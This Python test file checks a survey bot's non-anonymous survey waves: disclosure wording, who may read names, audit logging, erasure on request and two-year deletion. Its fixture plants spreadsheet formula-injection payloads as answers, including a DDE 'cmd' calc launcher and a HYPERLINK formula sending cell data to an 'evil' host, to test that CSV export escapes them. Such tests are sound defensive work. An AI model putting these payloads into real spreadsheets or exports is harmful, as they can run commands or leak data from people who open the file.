"""Waves that keep names: they say so, their viewers read them, and whoever wants to be deleted is."""

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest

from bot.domain.errors import InvalidInput, NotAllowed
from bot.domain.parts import plain
from bot.domain.people import Asker
from bot.presenters import pulse, pulse_people, pulse_results
from bot.services import (
    Services,
    survey_answers,
    survey_attributed,
    survey_clock,
    survey_close,
    survey_people,
    survey_results,
    survey_waves,
)
from storage import audit, outbox, wave_results, waves
from storage.waves import StoredWave
from tests.services.survey_world import OWNER, World, people, world_in


@pytest.fixture
def world(services: Services) -> World:
    return world_in(services)


def closed(world: World) -> StoredWave:
    row = world.open(mode="attributed")
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", pride="declined", more="=HYPERLINK(1)")
    world.answer(row, "U0002", goals="5", more="-2+3+cmd|' /C calc'!A0")
    world.answer(row, "U0003", goals="5", more='+1+HYPERLINK("http://evil/?x="&A2,"see")')
    world.answer(row, "U0004", goals="5", more="-2")
    world.close()
    return row


def test_the_invitation_the_form_and_the_receipt_say_so_first(world: World) -> None:
    row = world.open(mode="attributed")
    with world.services.db.read() as connection:
        asked = [each.payload for each in outbox.everything(connection) if each.kind == "survey"]
    assert all("Not anonymous: your answers are kept with your name" in each for each in asked)
    sheet = survey_answers.sheet(world.services, "U0001", row.id)
    assert plain(pulse.above(sheet)[0]).startswith("Not anonymous: your answers are kept with your name")
    assert not any(each.name.endswith(".ask") for each in sheet.inputs), "they need no second way to be asked"
    kept = survey_answers.keep(world.services, "U0001", row.id, 1, {"goals": "5"})
    assert "It is kept with your name." in plain(pulse.receipt(kept)[1])


def test_its_viewers_read_who_answered_what_and_that_is_in_the_audit_log(world: World) -> None:
    row = closed(world)
    found = survey_attributed.answers(world.services, OWNER, "team-check")
    assert [user for user, _ in found.people] == [m.user_id for m in people(11)]
    assert found.people[0][1] == ("5", "prefers not to say", "", "", "=HYPERLINK(1)")
    rows = list(csv.reader(io.StringIO(survey_attributed.as_csv(found).decode("utf-8-sig"))))
    assert rows[0][:2] == ["person", "I know what we want to reach."]
    assert [cells[-1] for cells in rows[1:5]] == [
        "'=HYPERLINK(1)", "'-2+3+cmd|' /C calc'!A0", """'+1+HYPERLINK("http://evil/?x="&A2,"see")""", "-2"
    ]  # fmt: skip
    shown = "\n".join(plain(part) for part in pulse_people.people(found).parts)
    assert "I know what we want to reach.: 5" in shown
    with world.services.db.read() as connection:
        lines = [each.change for each in audit.entries(connection, "team-check #1")]
    assert [each.actor for each in lines if each.action == "survey.read_names"] == [OWNER.user_id]
    assert world.row(row.id).state == "closed"


def test_beside_its_comments_stands_that_their_writers_are_kept_and_for_whom(world: World) -> None:
    closed(world)
    shown = "\n".join(map(plain, pulse_results.comments(survey_results.comments(world.services, OWNER, "team-check")).parts))
    assert "Nothing tells who wrote what" not in shown
    assert "Who wrote what is kept with names: whoever started it, and those who were named then, may see it" in shown
    row = world.open()
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", more="Fewer meetings.")
    world.close()
    shown = "\n".join(map(plain, pulse_results.comments(survey_results.comments(world.services, OWNER, "team-check")).parts))
    assert "Nothing tells who wrote what, or when." in shown


def test_nobody_else_reads_them_and_an_anonymous_wave_has_none(world: World) -> None:
    closed(world)
    for asker in (Asker("U0002"), Asker("U0ADMIN", admin=True)):
        with pytest.raises(NotAllowed):
            survey_attributed.answers(world.services, asker, "team-check")
    row = world.open()
    world.all_answer(row, [m.user_id for m in people(11)])
    world.close()
    with pytest.raises(InvalidInput, match="keeps no names"):
        survey_attributed.answers(world.services, OWNER, "team-check")
    assert len(survey_attributed.answers(world.services, OWNER, "team-check", "1").people) == 11


def test_whoever_wants_to_be_deleted_is_gone_from_it(world: World) -> None:
    closed(world)
    assert survey_people.erase(world.services, Asker("U0001")).attributed == 1
    assert "U0001" not in dict(survey_attributed.answers(world.services, OWNER, "team-check").people)


def test_what_is_left_is_counted_anew_so_that_nobody_follows_from_the_others_by_name(world: World) -> None:
    row = world.open(mode="attributed", channel="C0TEAM")
    points = [4, 5, 6, 7, 8, 9, 10, 10, 10, 10, 10]
    for number, point in enumerate(points, 1):
        world.answer(row, f"U{number:04}", goals="4", recommend=str(point), more="the same" if number < 3 else f"from {number}")
    world.close()
    assert enps(world) == pytest.approx(100 * (6 - 3) / 11, abs=0.01)
    survey_people.erase(world.services, Asker("U0004"))
    assert enps(world) == pytest.approx(100 * (6 - 3) / 10, abs=0.01)
    found = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    assert (found.receipt["invited"], found.receipt["opened"]) == (11, 10)
    assert plain(pulse_results.results(found).parts[1]).startswith("10 of 11 answered (91%).")
    texts = sorted(each.text for each in survey_results.comments(world.services, OWNER, "team-check", channel="C0TEAM").found)
    assert texts == sorted(["the same"] * 2 + [f"from {n}" for n in range(3, 12) if n != 4])
    survey_people.erase(world.services, Asker("U0001"))
    with world.services.db.read() as connection:
        kept = [each.text for each in wave_results.comments(connection, row.id)]
    assert kept.count("the same") == 1, "what another wrote in the same words stays"
    for number in range(5, 10):
        survey_people.erase(world.services, Asker(f"U{number:04}"))
    found = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    assert found.cells == {}, "of four nothing is counted, and their names stand there all the same"
    assert len(survey_attributed.answers(world.services, OWNER, "team-check").people) == 4
    assert "4 of 5 answered" in "\n".join(plain(part) for part in pulse_results.results(found).parts)


def enps(world: World) -> float | None:
    found = survey_results.results(world.services, OWNER, "team-check", channel="C0TEAM")
    return found.cells["recommend"]["all"].value("enps")


def test_too_few_answers_are_kept_by_name_as_was_promised_and_no_figure_is_made_of_them(world: World) -> None:
    row = world.open(mode="attributed")
    world.all_answer(row, ["U0001", "U0002", "U0003"])
    ended = survey_close.by_hand(world.services, OWNER, "team-check")
    assert (ended.what, ended.answered) == ("closed", 3)
    world.clean()
    assert [user for user, _ in survey_attributed.answers(world.services, OWNER, "team-check").people] == [
        "U0001", "U0002", "U0003"
    ]  # fmt: skip
    found = survey_results.results(world.services, OWNER, "team-check")
    assert (found.cells, found.receipt["opened"]) == ({}, 3)
    shown = "\n".join(plain(part) for part in pulse_results.results(found).parts)
    assert "3 of 12 answered" in shown
    assert "12 invited, 3 opened" in shown


def test_whoever_starts_and_ends_it_hears_that_it_keeps_names(world: World) -> None:
    row = world.open(mode="attributed")
    opening = survey_waves.described(row, survey_waves.survey_of(row))
    assert "with names: who answered what is kept for two years" in "".join(map(plain, pulse.started(opening, "UTC").parts))
    world.all_answer(row, [m.user_id for m in people(11)])
    ended = survey_close.by_hand(world.services, OWNER, "team-check")
    for told in (pulse_results.closed(ended, "UTC", may_see=True), pulse_results.thanks(ended)):
        words = "".join(map(plain, told.parts))
        assert "Who answered what is kept with names for two years" in words
        assert "figures of at least five" not in words


def test_nothing_of_it_is_left_in_the_file_of_the_database(world: World) -> None:
    row = world.open(mode="attributed")
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", more="a canary in the mine")
    world.close()
    if not world.services.db.is_sqlite:
        pytest.skip("a server's files are its own")
    folder = Path(world.services.db.engine.url.database or "").parent
    survey_people.erase(world.services, Asker("U0001"))
    assert not any(b"a canary in the mine" in each.read_bytes() for each in folder.glob("barometer.db*"))


def test_after_two_years_it_is_deleted(world: World) -> None:
    row = closed(world)
    world.clock.on(days=730)
    survey_clock.run(world.services)
    with world.services.db.read() as connection:
        assert len(waves.attributed(connection, row.id)) == 11
    world.clock.on(seconds=1)
    survey_clock.run(world.services)
    with world.services.db.read() as connection:
        assert waves.attributed(connection, row.id) == {}
    assert world.clock.now - row.opens_at > timedelta(days=730)


def test_what_people_wrote_is_deleted_after_two_years_from_old_pages_too(world: World) -> None:
    row = world.open()
    world.all_answer(row, [m.user_id for m in people(11)])
    world.answer(row, "U0001", goals="5", more="a canary in the mine")
    world.close()
    receipt = world.row(row.id).receipt
    found = survey_results.comments(world.services, OWNER, "team-check").found
    assert [each.text for each in found] == ["a canary in the mine"]
    world.clock.on(days=730, seconds=1)
    survey_clock.run(world.services)
    assert survey_results.comments(world.services, OWNER, "team-check").found == ()
    assert not world.row(row.id).cleaned, "its old pages are still to be overwritten"
    world.clean()
    assert world.row(row.id).receipt == receipt
    survey_clock.run(world.services)
    assert world.row(row.id).cleaned, "and that is all"
    if world.services.db.is_sqlite:
        folder = Path(world.services.db.engine.url.database or "").parent
        assert not any(b"a canary in the mine" in each.read_bytes() for each in folder.glob("barometer.db*"))
